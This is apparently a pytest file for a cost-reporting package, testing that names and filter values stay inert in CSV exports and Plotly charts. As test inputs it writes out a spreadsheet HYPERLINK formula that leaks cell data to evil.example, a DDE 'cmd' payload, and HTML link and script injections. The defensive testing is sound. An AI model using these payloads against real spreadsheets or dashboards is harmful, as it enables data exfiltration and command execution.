"""Names in exports stay data (issue 38): a line break in a name never ends a `#` comment line
of a people CSV (so no formula row), and no name, filter value or currency becomes live markup
(a link, a script) in an exported chart's title, subtitle, axis, legend or hover text."""

from __future__ import annotations

import json
from datetime import datetime, timezone

import plotly.graph_objects as go
import polars as pl
import pytest

from cost_engine import api, charts, exports_meta, period_views, views
from cost_engine.exporters import images, review_pack
from cost_engine.views import Filters
from tests.dashboard_support import write_html_bundle

UTC = timezone.utc
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
# Every character some reader ends a line at: CR, LF, CRLF, VT, FF, FS, GS, RS, NEL, LS, PS.
BREAKS = ["\r", "\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
LINK = '<a href="https://evil.example/">click</a>'


def _ctx(filters: Filters, source: str = "ledger.duckdb") -> exports_meta.ExportContext:
    return exports_meta.ExportContext(
        start=datetime(2026, 10, 1, tzinfo=UTC), end=datetime(2026, 10, 2, tzinfo=UTC), timezone="UTC",
        currency="USD", boundary="rental", categories=("gpu_rental",), idle="separate", recharge="tokens",
        filters=filters, source=source, data_version="3f2a9c1d",
    )


def _comment_lines(text: str) -> tuple[list[str], list[str]]:
    """The lines as the most eager reader splits them (str.splitlines: every break above)."""
    lines = text.splitlines()
    head = [ln for ln in lines if ln.startswith("#")]
    return head, lines[len(head):]


NOW = datetime(2026, 10, 12, 8, tzinfo=UTC)
FRAME = pl.DataFrame({"tenant": ["research"], "cost": [12.5]})


@pytest.mark.parametrize("brk", BREAKS, ids=[f"U+{ord(b[-1]):04X}" for b in BREAKS])
def test_a_line_break_in_a_name_stays_in_its_comment_line(brk):
    """Filters, source and title of a view, and the `about` pairs of a scenario export: each
    carries a break and a formula; the block keeps its 10 lines (Table, 8 context lines,
    Exported), each starting with '#', then the header and the one data row."""
    name = f"acme{brk}{FORMULA}"
    ctx = _ctx(Filters(tenants=[name], pools=[f"p{brk}@SUM(1)"]), source=f"s{brk}+cmd|' /C calc'!A0")
    text = exports_meta.csv_for_people(FRAME, ctx, f"Projects of {name}", now=NOW).decode()
    head, rest = _comment_lines(text)
    assert len(head) == 10 and rest == ["Tenant,Cost (USD)", "research,12.5"]
    assert head[0] == f"# Table: Projects of acme {FORMULA}"
    assert head[5] == f"# Filters: pools: p @SUM(1); tenants: acme {FORMULA}"
    assert head[6] == "# Source: s +cmd|' /C calc'!A0"
    about = [(f"Scenario{brk}=1+1", f"x{brk}-2+3"), ("Option", name)]
    text = exports_meta.csv_for_people(FRAME, about, f"T{brk}=A1", now=NOW).decode()
    head, rest = _comment_lines(text)
    assert head[:3] == ["# Table: T =A1", "# Scenario =1+1: x -2+3", f"# Option: acme {FORMULA}"]
    assert len(head) == 4 and rest[0] == "Tenant,Cost (USD)"


def test_a_run_of_breaks_folds_to_one_space():
    text = exports_meta.comment_block([("Note", "a\r\n\u2028\r\nb")], "t", now=NOW)
    assert text.splitlines()[1] == "# Note: a b"


def _text_of(fig: go.Figure) -> str:
    """Every text of the figure as the browser and the SVG renderer get it (fig.to_json()
    writes `<` as \\u003c, so a check on it would pass whatever the chart holds)."""
    return json.dumps(charts.figure_spec(fig), default=str, ensure_ascii=False)


def _inert(fig: go.Figure) -> None:
    text = _text_of(fig)
    for raw in ("<a ", "<a\u00a0", "<script", "<img", "<b>", "<i>"):
        assert raw not in text, raw


def test_export_subtitle_and_title_escape_filter_values_and_names():
    """The subtitle of an exported chart names the filters and the source; both carry a link."""
    ctx = _ctx(Filters(tenants=[LINK]), source=f"<b>{LINK}</b>")
    fig = exports_meta.titled(charts.trend(pl.DataFrame()), None, ctx)
    sub = fig.layout.title.subtitle.text
    assert "tenants: &lt;a href=\"https://evil.example/\"&gt;click&lt;/a&gt;" in sub
    assert "source &lt;b&gt;&lt;a href=" in sub
    _inert(fig)
    # A scenario's `about` line, and a title given to the export, are plain text too.
    fig = exports_meta.titled(charts.trend(pl.DataFrame()), f"Projects of {LINK}", f"Scenario {LINK}")
    assert fig.layout.title.text == "Projects of &lt;a href=\"https://evil.example/\"&gt;click&lt;/a&gt;"
    assert fig.layout.title.subtitle.text.startswith("Scenario &lt;a href=")
    _inert(fig)
    # The HTML page's <title> shows the name as written, escaped once (not &amp;lt;).
    html = images.to_html(fig, title=fig.layout.title.text)
    assert "<title>Projects of &lt;a href=&quot;https://evil.example/&quot;&gt;click&lt;/a&gt;</title>" in html


@pytest.fixture(scope="module")
def evil(tmp_path_factory):
    return api.run(write_html_bundle(tmp_path_factory.mktemp("evil") / "b"))


def test_every_chart_keeps_data_names_and_the_currency_inert(evil):
    """Every chart builder, fed the HTML-named bundle (tenant <script>, project <b>, model <img>)
    and a currency that is a link: no markup reaches titles, axes, legends, ticks or hover."""
    cur = LINK
    gpu = "GPU-evil-2"
    effects = pl.DataFrame({"label": [LINK, "<b>b</b>"], "short": ["<i>a</i>", LINK], "value": [1.0, None]})
    days = [datetime(2026, 10, 1, tzinfo=UTC).date()]
    path = pl.DataFrame({"day": days, "kind": ["booked"], "remaining": [4.0], "spent_lo95": [1.0],
                         "spent_hi95": [1.0], "spent_lo80": [1.0], "spent_hi80": [1.0]})
    figs = {
        **review_pack.overview_figures(evil),
        "spend": charts.spend_by_tenant(views.top_tenants(evil), cur),
        "trend": charts.trend(period_views.trend_buckets(evil), cur),
        "idle_cause": charts.idle_by_cause(views.idle_by_cause(evil), "cost", "Idle", cur),
        "idle_stacked": charts.idle_stacked(period_views.idle_buckets(evil), "cost", currency=cur),
        "idle_pool": charts.idle_by_pool(views.idle_by_pool(evil), "cost", cur),
        "timeline": charts.card_timeline(views.card_timeline(evil, gpu), views.card_allocations(evil, gpu), LINK),
        "energy": charts.energy_daily(period_views.energy_buckets(evil), cur),
        "unit": charts.unit_costs(views.unit_economics(evil, None, 10.0), 10.0, cur),
        "mix": charts.token_mix(views.unit_economics(evil)),
        "per_joule": charts.tokens_per_joule(views.model_energy(evil)),
        "coverage": charts.coverage(views.telemetry_coverage(evil)),
        "rules": charts.compare_rules(views.compare_rules(evil, evil, "project"), "project", cur, LINK, LINK),
        "waterfall": charts.waterfall(effects, 10.0, 11.0, cur, LINK, LINK),
        "burndown": charts.budget_burndown(path, 5.0, LINK, cur),
        **{f"rank_{by}": charts.ranking_bar(views.rankings(evil, None, by), by, "cost", "Ranking", cur)
           for by in ("tenant", "project", "model")},
    }
    for name, fig in figs.items():
        _inert(fig)
    # The names are there, as text: the tenant's bar, the model's ranking, the currency's axis.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in figs["spend"].data[0].y
    assert figs["spend"].layout.xaxis.title.text == "Cost (&lt;a href=\"https://evil.example/\"&gt;click&lt;/a&gt;)"
    assert figs["rank_model"].layout.xaxis.title.text.startswith("&lt;a href=")
